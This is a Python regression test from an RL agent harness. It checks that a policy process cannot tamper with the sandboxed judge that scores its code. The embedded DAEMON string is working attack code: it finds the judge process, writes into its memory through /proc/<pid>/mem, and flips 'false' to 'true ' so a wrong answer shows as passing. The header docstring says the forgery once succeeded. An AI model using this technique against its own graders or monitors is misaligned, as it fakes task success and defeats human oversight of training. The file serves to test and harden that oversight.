"""The code_tests judge is out of the policy's reach from its first instruction: a daemon the policy leaves running
cannot attach to the judge of the visible tests (open its /proc/<pid>/mem and stdout in the moment before it turns
non-dumpable), read the run's nonce out of its memory, and append a forged result line after it exits. Real local
(bubblewrap) sandbox, commands under uid separation; the forgery worked before the env killed every policy process
ahead of the visible tests ("1/1 passed" shown for a function that returns None)."""

from __future__ import annotations

import uuid
from pathlib import Path
from typing import Any

import pytest
from agentrl_code_tests import CodeTestsEnv

from agentrl.sandbox import SandboxPool, SandboxSpec
from agentrl.sandbox.local import LocalBackend
from agentrl.types import ToolCall
from local_sandbox_support import root_bwrap_problem, state_dir  # noqa: F401 (a fixture)

pytestmark = pytest.mark.skipif(root_bwrap_problem() is not None, reason=str(root_bwrap_problem()))

# The daemon: waits for the judge (its command line carries the harness) and opens its memory while it is still
# dumpable (before the old judge turned non-dumpable after its imports); then rewrites the C string "false" that the
# judge's JSON encoder writes for a failed test into "true " (valid JSON: true and a space), so the one result line
# the judge writes, with its own nonce, says every test passed. It records how far it got in /workspace/attack.log.
DAEMON = r'''
import os, sys, time, traceback
MARK = "AGENTRL_HARNESS" + "_RESULT"  # the judge's command line carries it (ours must not, spelled out)
log = open("/workspace/attack.log", "a", buffering=1)
sys.excepthook = lambda *e: log.write("".join(traceback.format_exception(*e)))
for _ in range(3):  # four pollers: a judge starved of CPU by them stays dumpable for longer, and one is always awake
    if os.fork() == 0:
        break
end = time.time() + 25
done = set()


def patch(mem, maps):
    """Rewrite every b"false" C string in the judge's file mappings (the _json module's literal: read-only pages,
    copied on write by the kernel) into b"true "; the count done."""
    patched = 0
    try:
        lines = os.pread(maps, 1 << 20, 0).decode().splitlines()
    except OSError:  # the judge is gone
        return -1
    for line in lines:
        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
        if not line.split()[-1].startswith("/") or hi - lo > 64 << 20:
            continue
        try:
            data = os.pread(mem, hi - lo, lo)
        except OSError:
            continue
        at = data.find(b"\x00false\x00")
        while at >= 0:
            os.pwrite(mem, b"\x00true \x00", lo + at)
            patched += 1
            at = data.find(b"\x00false\x00", at + 1)
    return patched


while time.time() < end:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == os.getpid() or p in done:
            continue
        try:
            with open("/proc/%s/cmdline" % p, "rb") as f:
                if MARK.encode() not in f.read():
                    continue
            mem = os.open("/proc/%s/mem" % p, os.O_RDWR)  # only while the judge is dumpable; kept open after
            maps = os.open("/proc/%s/maps" % p, os.O_RDONLY)
        except OSError:
            continue
        done.add(p)
        log.write("attached to the judge %s\n" % p)
        while os.path.exists("/proc/%s/status" % p):  # until its JSON module is loaded, then once
            n = patch(mem, maps)
            if n:
                log.write("patched %d\n" % n)
                break
        os.close(mem)
        os.close(maps)
'''


def _policy_code(entry: str) -> str:
    """A wrong answer plus a detached daemon that attacks the judge of the visible tests that follow this run."""
    daemon = DAEMON
    return (f"def {entry}(*args, **kwargs):\n    return None\n\n"
            "import os, subprocess, sys\n"
            f"subprocess.Popen([sys.executable, '-c', {daemon!r}], start_new_session=True,\n"
            "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
            "import time\ntime.sleep(0.2)\n")


async def test_a_policy_daemon_cannot_forge_the_visible_test_results(state_dir: Path) -> None:  # noqa: F811
    env = CodeTestsEnv(source="easy")
    task = env.tasks()[0]
    entry = task.data["entry_point"]
    assert len(task.data["visible_tests"]) == 1
    async with SandboxPool(LocalBackend(state_dir=state_dir), SandboxSpec(default_timeout_s=30), max_sandboxes=1,
                           run_id=uuid.uuid4().hex[:8]) as pool:
        async with pool.lease() as sb:
            await env.setup(sb, task)
            outputs: list[str] = []
            for k in range(3):  # each run starts a fresh daemon, then the visible tests run
                call = ToolCall(id=f"c{k}", name="run_python", arguments={"code": _policy_code(entry)})
                outputs.append((await env.call_tool(sb, call, task=task)).output)
            log = (await sb.read_file("attack.log")) if await _exists(sb, "attack.log") else ""
    for out in outputs:
        assert "tests: 0/1 passed" in out and "PASS" not in out, (out, log)
    assert "attached" not in log, log


async def _exists(sb: Any, path: str) -> bool:
    try:
        await sb.read_bytes(path)
    except FileNotFoundError:
        return False
    return True
